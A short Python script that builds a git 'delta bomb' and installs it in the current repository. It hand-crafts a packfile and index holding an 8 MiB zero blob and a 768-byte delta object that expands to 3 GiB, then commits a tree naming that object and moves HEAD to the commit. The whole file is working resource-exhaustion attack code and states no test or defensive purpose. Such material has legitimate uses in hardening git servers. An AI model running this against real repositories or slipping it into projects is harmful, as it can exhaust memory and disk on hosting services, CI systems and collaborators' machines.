# A delta bomb: an 8 MiB zero blob and a 768-byte REF_DELTA against it that expands to 3 GiB,
# installed as a pack with its index, and committed (the commit names a tree that names the bomb).
import hashlib, os, struct, subprocess, sys, zlib

def git(*args):
    return subprocess.check_output(("git",) + args).decode().strip()

BASE, SIZE = 8 << 20, 3 << 30
base = b"\0" * BASE

def oid_of(kind, size, chunks):
    h = hashlib.sha1(b"%s %d\0" % (kind, size))
    for chunk in chunks:
        h.update(chunk)
    return h.digest()

def varint(n):
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)

def header(kind, size):
    first, size = (kind << 4) | (size & 0x0F), size >> 4
    out = bytearray()
    while True:
        out.append(first | (0x80 if size else 0))
        if not size:
            return bytes(out)
        first, size = size & 0x7F, size >> 7

base_oid = oid_of(b"blob", BASE, [base])
bomb_oid = oid_of(b"blob", SIZE, (base for _ in range(SIZE // BASE)))
delta = varint(BASE) + varint(SIZE) + b"\xc0\x80" * (SIZE // BASE)
entries = [
    (base_oid, header(3, BASE) + zlib.compress(base)),
    (bomb_oid, header(7, len(delta)) + base_oid + zlib.compress(delta)),
]
pack = bytearray(b"PACK" + struct.pack(">II", 2, len(entries)))
offsets = {}
for oid, raw in entries:
    offsets[oid] = (len(pack), zlib.crc32(raw))
    pack += raw
pack_sum = hashlib.sha1(pack).digest()
pack += pack_sum
ordered = sorted(offsets)
idx = bytearray(b"\xfftOc" + struct.pack(">I", 2))
for byte in range(256):
    idx += struct.pack(">I", sum(1 for o in ordered if o[0] <= byte))
for o in ordered:
    idx += o
for o in ordered:
    idx += struct.pack(">I", offsets[o][1])
for o in ordered:
    idx += struct.pack(">I", offsets[o][0])
idx += pack_sum
idx += hashlib.sha1(idx).digest()
packs = git("rev-parse", "--git-path", "objects/pack")
name = os.path.join(packs, "pack-" + pack_sum.hex())
open(name + ".pack", "wb").write(pack)
open(name + ".idx", "wb").write(idx)
tree = subprocess.run(("git", "mktree"), input=b"100644 blob %s\tbomb\n" % bomb_oid.hex().encode(),
                      capture_output=True, check=True).stdout.decode().strip()
commit = git("commit-tree", tree, "-p", "HEAD", "-m", "bomb")
git("update-ref", "HEAD", commit)
print("bomb", bomb_oid.hex(), file=sys.stderr)
